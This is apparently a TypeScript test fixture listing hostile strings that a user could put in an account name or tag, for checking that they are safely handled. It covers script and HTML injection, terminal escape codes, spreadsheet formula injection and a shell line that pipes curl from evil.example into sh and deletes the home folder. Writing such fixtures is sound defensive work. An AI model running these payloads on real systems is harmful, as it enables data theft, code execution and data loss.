/** Texts that whoever may name or tag something in an account could write, by what each of them tries. */
export const hostileTexts = {
  'an element': '<img src=x onerror=alert(1)><b id=hostile-element>bold</b>',
  'the end of the script': '</script><script>alert(1)</script><!--<script>',
  'the end of an attribute': '" onmouseover="alert(1)" autofocus onfocus=\'alert(1)\' x="',
  'the end of a title, style or comment': '--></title></style></noscript></svg><svg onload=alert(1)>',
  'character references': '&lt;img src=x onerror=alert(1)&gt; &#x3c;script&#x3e;alert(1)&#60;/script&#62;',
  'an address': 'javascript:alert(1)//https://evil.example/x.png',
  'a data address': 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'a style': '}</style><link rel=stylesheet href=//evil.example/x.css>{background:url(//evil.example/y)',
  templates: '{{7*7}}${alert(1)}<%= alert(1) %>#{7*7}`${process.env}`{name} {arn} {0}',
  'the end of JSON': '"}],"findings":[],"x":[{"y":"\\"\\u0022\\',
  'line separators': 'a\u2028b\u2029c\u0085d',
  'colours and the cursor': '\u001B[2J\u001B[1;1H\u001B[31mred\u001B[0m\u001B[?25l\u001B[8mhidden',
  'a title of the window': '\u001B]0;owned\u0007\u001B]2;owned\u001B\\',
  'a link of the terminal': '\u001B]8;;https://evil.example\u001B\\click\u001B]8;;\u001B\\',
  'the clipboard': '\u001B]52;c;cm0gLXJmIH4=\u0007',
  'a device control string':
    '\u001BP$q"p\u001B\\\u001BPtmux;\u001B\u001B]0;x\u0007\u001B\\\u001B_app\u001B\\\u001B^pm\u001B\\\u001BX sos\u001B\\',
  'C1 controls': '\u009B31m\u009D0;owned\u009C\u0090q\u009C\u0084\u008D\u009A',
  'a line written over': 'FAIL it is open\rPASS it is shut\u0008\u0008\u0008\u0008\u000B\u000C',
  'an answer of the terminal': '\u001B[6n\u001B[c\u001B[21t\u0005\u007F',
  'another direction': 'report-\u202Egnp.exe\u202C \u202Bx\u202C',
  'isolates and marks': '\u2066a\u2069\u2067b\u2069\u2068c\u200E\u200F\u061C',
  'nothing to see': 'ad\u200Bmin\u200C\u200D\u2060\uFEFF\u00AD\u3164\u115F\uFFA0\u180E',
  'letters that look alike': 'arn:\u0430ws:i\u0430m::123456789012:r\u043El\u0435/\u0391dmin\uFF21',
  'combining marks': `z${'\u0301\u0336\u20DD'.repeat(1000)}`,
  'joined emoji': '\u{1F469}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}'.repeat(40),
  'halves of characters': 'x\uD800y\uDC00z\uDBFF',
  'no characters': '\uFFFE\uFFFF\u{1FFFE}\uE000\u{F0000}\u{10FFFF}',
  'tags and variation selectors': '\u{E0001}\u{E0041}\u{E007F}a\uFE0F\uFE0E\u{E0100}',
  'a zero byte': 'start\u0000end',
  'a formula': '=HYPERLINK("http://evil.example?"&A1,"click")',
  'a formula with a command': "=cmd|' /C calc'!A0",
  'a plus': '+1+cmd|x!A0',
  'a minus': '-1+1|x',
  'an at': '@SUM(1+1)*cmd|x',
  'a tab first': '\t=1+1',
  'line breaks': 'a\r\nb\n\nERROR c\nd',
  Markdown: '[click](javascript:alert(1)) ![x](//evil.example/x.png) `code` **b** | a | b |\n# head',
  Mermaid: '"]; click n0 "javascript:alert(1)"; end %%{init: {"securityLevel":"loose"}}%% subgraph x["`',
  'a shell': '; rm -rf ~ $(id) `id` && curl evil.example | sh #\'"\\',
  'SQL and a path': "'; DROP TABLE x;-- ../../../../etc/passwd%00 \\\\evil\\share",
  'a prototype': '__proto__',
  'a constructor': 'constructor',
  'a method': 'toString',
  'one long word': 'A'.repeat(5000),
  'one long wide word': '\u6F22'.repeat(3000),
} as const;

export type HostileName = keyof typeof hostileTexts;

export const texts: readonly string[] = Object.values(hostileTexts);

/** What arrives of a text that is sent as UTF-8: half a character has no bytes. */
export const asUtf8 = (text: string): string => Buffer.from(text).toString();

/** Everything that acts on a terminal, or is not seen on one; a line feed is what ends a line. */
export const actsOnTerminal =
  // oxlint-disable-next-line no-control-regex -- control characters are what is looked for
  /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\p{Cf}\p{Cs}\p{Co}\p{Cn}\p{Zl}\p{Zp}\u115F\u1160\u3164\uFFA0]/u;
